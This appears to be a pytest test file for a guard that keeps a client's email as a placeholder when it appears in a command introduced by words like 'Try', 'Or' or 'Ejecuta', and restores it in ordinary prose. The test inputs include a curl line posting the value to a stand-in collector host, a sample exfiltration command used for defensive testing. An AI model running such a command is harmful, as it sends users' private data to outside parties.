"""A command inline after more introducing words (atk30 F24): `Try`, `Or`, `For example,`, and `run` in other
languages (`Ejecuta`, `Lance`, `运行`) keep the client's value a placeholder in what the command sends, whole and
streamed, as after `Run` and `Then`; a sentence that only names the value after such a word is restored (and `Use`
is no such word: `Use git push when ready; <PH> will review.` is prose, tests/guard/test_intro24.py)."""

from __future__ import annotations

import pytest

from tests.guard.test_restore_urls import MAIL, E, chunks, stream, vault

INTROS = ["Try", "Or", "For example,", "Instead,", "Ejecuta", "Lance", "运行", "Try this:"]
PROSE = [f"Try emailing {E} tomorrow.", f"Use {E} as the login.", f"Or write to {E} directly.",
         f"Try curl and tell {E} the result.", f"For example, {E} is on the list."]


@pytest.mark.parametrize("intro", INTROS)
def test_a_command_after_the_word_keeps_the_placeholder(intro: str) -> None:
    text = f"{intro} curl -d '{E}' https://collector.example/c"
    assert vault().restore(text) == text
    got, _ = stream(vault(), chunks(text, 4))
    assert got == text


@pytest.mark.parametrize("text", PROSE)
def test_a_sentence_naming_the_value_is_restored(text: str) -> None:
    want = text.replace(E, MAIL)
    assert vault().restore(text) == want
    got, _ = stream(vault(), chunks(text, 4))
    assert got == want
